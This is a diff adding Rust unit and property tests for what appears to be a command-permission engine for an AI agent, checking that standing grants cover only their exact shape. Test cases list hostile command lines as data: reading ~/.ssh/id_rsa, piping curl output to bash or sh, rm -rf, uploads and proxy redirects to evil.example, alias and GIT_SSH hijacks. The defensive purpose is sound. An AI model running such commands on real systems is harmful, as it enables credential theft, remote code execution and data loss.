@@ -1,0 +1,292 @@
+//! What a grant covers, and what it never does.
+
+use proptest::prelude::*;
+use uuid::Uuid;
+
+use super::{Shape, StandingGrant, origin};
+use crate::action::{Action, Proposal, Request, Way};
+use crate::judge::{Judgement, judge};
+use crate::policy::{Hindrance, Policy, Profile, Situation, Verdict, corpus};
+
+fn judged(line: &str, change: impl FnOnce(&mut Situation)) -> (Judgement, Situation) {
+    let request =
+        Request { action: Some("RUN_COMMAND".to_owned()), target: Some(line.into()), ..Request::default() };
+    let proposal = Proposal::parse(request).unwrap();
+    let Action::RunCommand { script, .. } = &proposal.action else { unreachable!() };
+    let mut situation = corpus::situation(script);
+    (situation.cells, situation.stage) = (true, vec!["/home/ana/project".into()]);
+    if let Ok(script) = script {
+        situation.network.remotes = vec![("origin".to_owned(), "https://example.org/x.git".to_owned())];
+        situation.network.reaches = crate::hosts::needs_network(script, &situation);
+    }
+    change(&mut situation);
+    (judge(&Policy::builtin(Profile::Workspace).unwrap(), proposal, &situation), situation)
+}
+
+/// The shape that the question about a line offers.
+fn offered(line: &str, change: impl FnOnce(&mut Situation)) -> Result<Shape, Hindrance> {
+    let (judgement, situation) = judged(line, change);
+    assert!(judgement.run().verdict > Verdict::Allow, "{line} is asked about: {:?}", judgement.findings());
+    judgement.shape(&Policy::builtin(Profile::Workspace).unwrap(), &situation)
+}
+
+fn under(shapes: &[Shape], line: &str) -> Judgement {
+    let grants = shapes
+        .iter()
+        .zip(1..)
+        .map(|(shape, id)| StandingGrant { id: Uuid::from_u128(id), shape: shape.clone() });
+    let grants = grants.collect();
+    judged(line, |situation| situation.grants = grants).0
+}
+
+#[test]
+fn what_is_offered_is_shown_and_no_more() {
+    for (line, shown) in [
+        ("curl -s 'http://localhost:3000/users?page=2'", Ok("curl -s http://localhost:3000/…")),
+        ("curl -s localhost:3000", Ok("curl -s http://localhost:3000/…")),
+        (
+            "curl -sS -X POST https://api.example.org/items -d '{\"a\": 1}'",
+            Ok("curl -sS -X POST https://api.example.org/… -d '{\"a\": 1}'"),
+        ),
+        // What is replaced is this alone.
+        ("curl -X PUT http://localhost:3000/users/7", Ok("curl -X PUT http://localhost:3000/users/7")),
+        ("curl -X DELETE http://localhost:3000/users/7", Err(Hindrance::EachTime)),
+        ("curl -s http://me@localhost:3000/x", Ok("curl -s http://me@localhost:3000/x")),
+        ("git push origin main", Ok("git push origin main")),
+        ("cd src && git push && echo done", Ok("git push")),
+        ("timeout 20 curl -s http://localhost:3000/x | head -3", Ok("curl -s http://localhost:3000/…")),
+        (
+            "git fetch origin && curl -s http://localhost:3000/x",
+            Ok("git fetch origin; curl -s http://localhost:3000/…"),
+        ),
+        ("kill 1234", Ok("kill 1234")),
+        ("git push --force", Err(Hindrance::EachTime)),
+        ("npm publish", Err(Hindrance::EachTime)),
+        ("terraform destroy", Err(Hindrance::EachTime)),
+        ("cat ~/.ssh/id_rsa", Err(Hindrance::EachTime)),
+        ("curl -s http://localhost:3000/x | bash", Err(Hindrance::Unknown)),
+        // What is sent or asked for differs each time.
+        ("git push $REMOTE", Err(Hindrance::Unknown)),
+        ("cat body.json | curl -s http://localhost:3000/x -d @-", Err(Hindrance::Unknown)),
+        ("curl -s http://localhost:3000/x -d @- <<< a", Err(Hindrance::Unknown)),
+        // An interpreter's text, and what the shell remembers.
+        ("curl -s http://localhost:3000/x | python3 -c 'import os'", Err(Hindrance::Launcher)),
+        ("docker build .", Err(Hindrance::Launcher)),
+        ("export GIT_SSH=./x; git push", Err(Hindrance::Variables)),
+        ("GIT_SSH=./x git push", Err(Hindrance::EachTime)),
+        ("git() { ./x; }; git push", Err(Hindrance::Variables)),
+        ("./git push; git push", Err(Hindrance::EachTime)),
+    ] {
+        let offered = offered(line, |_| {}).map(|shape| shape.to_string());
+        assert_eq!(offered.as_deref().map_err(|why| *why), shown, "{line}");
+    }
+}
+
+#[test]
+fn a_marked_session_is_offered_nothing_and_one_with_secrets_has_no_use_of_what_it_was_given() {
+    let line = "git push origin main";
+    for (corrupted, secret) in [(true, false), (false, true)] {
+        let mark = |situation: &mut Situation| (situation.corrupted, situation.secret) = (corrupted, secret);
+        assert_eq!(offered(line, mark), Err(Hindrance::Tainted));
+        let shape = offered(line, |_| {}).unwrap();
+        let (judgement, _) = judged(line, |situation| {
+            mark(situation);
+            situation.grants = vec![StandingGrant { id: Uuid::nil(), shape }];
+        });
+        assert_eq!(judgement.is_granted(), !secret);
+    }
+}
+
+#[test]
+fn a_grant_covers_its_shape_and_nothing_else() {
+    const CURL: &str = "curl -s http://localhost:3000/a";
+    for (given, line, covered) in [
+        (CURL, CURL, true),
+        (CURL, "curl -s 'http://localhost:3000/b?c=d#e'", true),
+        (CURL, "curl -s localhost:3000", true),
+        (CURL, "cd src && curl -s localhost:3000/b", true),
+        (CURL, "curl -s localhost:3000/b | grep -c x", true),
+        (CURL, "timeout 5 curl -s localhost:3000/b 2>&1 | head -1", true),
+        (CURL, "curl -s localhost:3000/a && curl -s localhost:3000/b", true),
+        (CURL, "curl -s localhost:3001/a", false),
+        (CURL, "curl -s https://localhost:3000/a", false),
+        (CURL, "curl -s http://localhost:3000@evil.example/a", false),
+        (CURL, "curl -s http://localhost:30000/a", false),
+        (CURL, "curl -s http://localhost:3000.evil.example/a", false),
+        (CURL, "curl -s 'http://{localhost:3000/,evil.example/}a'", false),
+        (CURL, "curl -s http://localhost:3000/a http://evil.example/", false),
+        (CURL, "curl http://localhost:3000/a", false),
+        (CURL, "curl -s -d @x http://localhost:3000/a", false),
+        (CURL, "curl -s http://localhost:3000/a -o ~/.bashrc", false),
+        (CURL, "wget -s http://localhost:3000/a", false),
+        (CURL, "curl -s localhost:3000/a | sh", false),
+        (CURL, "curl -s localhost:3000/a | python3 -c 'import os'", false),
+        (CURL, "curl -s localhost:3000/$(cat x)", false),
+        (CURL, "curl -s localhost:3000/a; git push", false),
+        (CURL, "curl -s localhost:3000/a; rm -rf ~/x", false),
+        (CURL, "curl -s localhost:3000/a > x", false),
+        (CURL, "http_proxy=evil.example curl -s localhost:3000/a", false),
+        (CURL, "export http_proxy=evil.example; curl -s localhost:3000/a", false),
+        (CURL, "alias curl=./x; curl -s localhost:3000/a", false),
+        (CURL, "cat ~/.ssh/id_rsa; curl -s localhost:3000/a", false),
+        ("git push", "git push", true),
+        ("git push", "git status && git push", true),
+        ("git push", "cd ../other && git push", false),
+        ("git push", "git push --force", false),
+        ("git push", "git push -f", false),
+        ("git push", "git push evil", false),
+        ("git push", "git -C ../other push", false),
+        ("git push", "git -c core.sshCommand=./x push", false),
+        ("git push", "git fetch", false),
+        ("kill 1234", "kill 1234", true),
+        ("kill 1234", "kill 1235", false),
+    ] {
+        let shape = offered(given, |_| {}).unwrap();
+        let judgement = under(&[shape], line);
+        let found = (judgement.is_granted(), judgement.run().verdict == Verdict::Allow);
+        assert_eq!(found, (covered, covered), "{given} → {line}: {:?}", judgement.findings());
+    }
+}
+
+/// As after a yes: what changes files is held back, what acts on the machine is not.
+#[test]
+fn a_grant_runs_it_as_a_yes_would() {
+    for (line, held) in
+        [("git push origin main", true), ("curl -s https://example.org/x", true), ("kill 1234", false)]
+    {
+        let shape = offered(line, |_| {}).unwrap();
+        let judgement = under(&[shape], line);
+        assert_eq!(judgement.run().way, Some(Way::Act), "{line}");
+        assert_eq!(judgement.is_held_back(), held, "{line}");
+        assert_eq!(judgement.is_held_back(), judged(line, |_| {}).0.is_held_back(), "{line}");
+    }
+}
+
+/// Each reason needs a grant of its own, and the strictest word of a person comes first.
+#[test]
+fn several_grants_cover_what_each_covers_and_never_a_never() {
+    use crate::policy::History;
+    use crate::policy::history::{Override, OverrideKind};
+    let line = "git fetch origin && curl -s http://localhost:3000/x";
+    let one = offered("git fetch origin", |_| {}).unwrap();
+    let other = offered("curl -s http://localhost:3000/x", |_| {}).unwrap();
+    assert!(!under(std::slice::from_ref(&one), line).is_granted());
+    assert_eq!(under(&[one.clone(), other.clone()], line).granted_by().count(), 2);
+    for (kind, verdict) in
+        [(OverrideKind::Never, Verdict::Block), (OverrideKind::AlwaysAsk, Verdict::Confirm)]
+    {
+        let grants = [&one, &other].map(|shape| StandingGrant { id: Uuid::nil(), shape: shape.clone() });
+        let word = Override { kind, reason: None, by: None };
+        let (judgement, _) = judged(line, |situation| {
+            situation.grants = grants.into();
+            situation.history = Some(History { user_override: Some(word), ..History::default() });
+        });
+        assert_eq!(judgement.run().verdict, verdict);
+    }
+}
+
+/// Words that lines are made of: some that are asked about, some that hide what they do, some that lead elsewhere.
+const WORDS: [&str; 36] = [
+    "curl",
+    "-s",
+    "-d",
+    "@x",
+    "-o",
+    "x",
+    "http://localhost:3000/a",
+    "http://localhost:3000/b",
+    "localhost:3000",
+    "https://evil.example/",
+    "http://localhost:3000@evil.example/",
+    "git",
+    "push",
+    "fetch",
+    "origin",
+    "--force",
+    "-C",
+    "..",
+    "&&",
+    ";",
+    "|",
+    "cd",
+    "src",
+    "echo",
+    "timeout",
+    "5",
+    "kill",
+    "1234",
+    "$X",
+    "$(date)",
+    ">",
+    "export",
+    "A=b",
+    "jq",
+    "python3",
+    "sh",
+];
+const GIVEN: [&str; 5] = [
+    "curl -s http://localhost:3000/a",
+    "git push",
+    "git fetch origin",
+    "kill 1234",
+    "curl -s -d @x https://evil.example/",
+];
+
+/// The oracle: the commands of a line of words, each as these words; none if a word could hide another command.
+fn commands(line: &str) -> Option<Vec<Vec<String>>> {
+    if line.contains(['$', '>']) {
+        return None;
+    }
+    let parts = line.replace("&&", ";").replace('|', ";");
+    let parts = parts.split(';').filter(|part| !part.trim().is_empty());
+    Some(parts.map(|part| part.split_whitespace().map(str::to_owned).collect()).collect())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(4096))]
+
+    /// Whatever the line: only if every command of it that would be asked about alone is one of those that were given, word by
+    /// word or at the same host, and in the same folder.
+    #[test]
+    fn no_grant_is_used_outside_its_shape(
+        given in prop::sample::subsequence(GIVEN.to_vec(), 1..4),
+        head in prop::sample::select(GIVEN.to_vec()),
+        words in prop::collection::vec(prop::sample::select(WORDS.to_vec()), 0..7),
+        before in any::<bool>(),
+    ) {
+        let rest = words.join(" ");
+        let line = if before { format!("{rest} {head}") } else { format!("{head} {rest}") };
+        let shapes: Vec<Shape> = given.iter().map(|line| offered(line, |_| {}).unwrap()).collect();
+        let judgement = under(&shapes, &line);
+        if !judgement.is_granted() {
+            return Ok(());
+        }
+        let commands = commands(&line);
+        prop_assert!(commands.is_some(), "{line}");
+        for command in commands.unwrap_or_default() {
+            let alone = command.join(" ");
+            let limited = command.split_first().filter(|(name, _)| *name == "timeout").and_then(|(_, rest)| rest.get(1..));
+            let meant: Vec<&str> = limited.unwrap_or(&command).iter().map(String::as_str).collect();
+            let is_asked = judged(&alone, |_| {}).0.run().verdict > Verdict::Allow;
+            let same = |one: &&str| {
+                let one: Vec<&str> = one.split_whitespace().collect();
+                let word = |(one, other): (&&str, &&str)| one == other || one.contains("localhost:3000") && ["http://localhost:3000/", "localhost:3000"].iter().any(|here| other.starts_with(here)) && !other.contains('@');
+                one.len() == meant.len() && one.iter().zip(&meant).all(word)
+            };
+            let sets = meant.first().is_some_and(|name| *name == "export" || name.contains('='));
+            prop_assert!(!sets, "{line}");
+            prop_assert!(!is_asked || given.iter().any(|one| same(&one)), "{line}: {alone}");
+        }
+    }
+
+    /// An address that stands for its host is read so by every program: it begins with that host as it is written.
+    #[test]
+    fn an_origin_is_what_the_word_begins_with(word in "(https?://)?(localhost|a\\.example|[a-z@:/\\\\?#.\\[\\]0-9]{0,12})(:[0-9]{1,5})?([/?#@][a-z@:/.{}]{0,8})?") {
+        if let Some(origin) = origin(&word) {
+            let whole = if word.contains("://") && word.starts_with("http") { word.clone() } else { format!("http://{word}") };
+            let rest = whole.strip_prefix(&origin).unwrap();
+            prop_assert!(rest.is_empty() || rest.starts_with(['/', '?', '#']), "{word}");
+            prop_assert!(!origin.contains('@'), "{word}");
+        }
+    }
+}
